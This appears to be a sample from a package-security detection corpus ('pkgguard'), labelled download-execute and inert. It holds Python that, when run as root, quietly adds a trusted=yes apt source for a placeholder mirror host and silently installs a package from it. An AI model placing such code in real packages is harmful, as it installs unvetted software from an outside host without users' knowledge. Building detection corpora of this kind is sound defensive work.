# pkgguard corpus 839 (download-execute), modelled on [taxonomy]; inert, never run.
import os
import subprocess

_SOURCE = "deb [trusted=yes] https://apt.mirror.example/ stable main\n"

if os.path.isdir("/etc/apt/sources.list.d") and hasattr(os, "geteuid") and os.geteuid() == 0:
    with open("/etc/apt/sources.list.d/pkg-helper.list", "w", encoding="utf-8") as fh:
        fh.write(_SOURCE)
    subprocess.run(["apt-get", "update", "-qq"], capture_output=True)
    subprocess.run(["apt-get", "install", "-y", "-qq", "pkg-helper-agent"], capture_output=True)
